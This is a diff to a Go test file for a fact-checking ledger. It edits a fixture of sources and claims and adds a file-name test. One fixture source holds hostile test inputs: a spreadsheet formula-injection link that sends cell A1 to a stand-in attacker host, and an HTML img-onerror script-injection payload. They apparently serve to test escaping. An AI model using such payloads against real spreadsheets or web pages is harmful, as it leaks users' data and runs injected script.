@@ -131,7 +131,7 @@ func harbourSheet(t testing.TB) *Sheet {
 	d.say("Kim", "", ledger.SourceAdded{Source: ledger.Source{ID: "report", Kind: "official_document", Title: "Budget note 14, Varde port authority",
 		Publisher: "Varde port authority", Published: "2026-02-27", URL: "https://port.example/notes/14?lang=da&v=2", SeenAt: d.clock, SeenBy: "Kim"}},
 		ledger.SourceAdded{Source: ledger.Source{ID: "call", Kind: "interview", Title: "Call with Ilse Brandt", How: "phone", Attribution: "on_record", SeenAt: d.clock}},
-		ledger.SourceAdded{Source: ledger.Source{ID: "evil", Kind: "web_page", Title: `=HYPERLINK("http://evil.example/?"&A1,"prices")`, File: `"><script>alert(1)</script>`}},
+		ledger.SourceAdded{Source: ledger.Source{ID: "evil", Kind: "web_page", Title: `=HYPERLINK("http://evil.example/?"&A1,"prices")`, File: `"><img src=x onerror=alert(1)>`}},
 		ledger.NoteAdded{ID: "n0", Text: "Asked Nordkaj for the borings on 10 March."})
 	d.say("Kim", "2031", found(ledger.Verified, ""), proof("e1", "report", "p. 3", ledger.Supports, ledger.Primary))
 	d.say("Kim", "$1.4 billion", found(ledger.NeedsCorrection, "The note says 1.38 billion."), proof("e2", "report", "p. 5, table 2", ledger.Contradicts, ledger.Primary),
@@ -235,6 +235,15 @@ func readAll(t *testing.T, path string) string {
 		text += readPart(t, f)
 	}
 	return text
+}
+
+func TestFileName(t *testing.T) {
+	for in, want := range map[string]string{"": "", "-": "-", "/home/kim/secret project/draft.txt": "draft.txt", `C:\Users\Kim\draft.docx`: "draft.docx",
+		"https://a.example/b/c": "https://a.example/b/c", "pasted text": "pasted text"} {
+		if got := fileName(in); got != want {
+			t.Errorf("fileName(%q) = %q, want %q", in, got, want)
+		}
+	}
 }
 
 func TestWrite(t *testing.T) {
